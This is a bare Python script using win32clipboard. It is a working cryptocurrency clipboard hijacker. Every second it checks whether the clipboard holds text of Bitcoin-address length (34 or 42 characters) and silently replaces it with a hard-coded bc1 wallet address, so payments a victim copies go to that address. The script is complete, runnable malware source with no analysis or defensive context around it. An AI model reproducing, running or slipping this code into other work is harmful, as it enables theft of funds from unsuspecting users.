import win32clipboard, time
def swap():
    win32clipboard.OpenClipboard()
    data = win32clipboard.GetClipboardData()
    if len(data) in (34, 42):
        win32clipboard.EmptyClipboard()
        win32clipboard.SetClipboardText("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq")
    win32clipboard.CloseClipboard()
while True:
    swap()
    time.sleep(1)
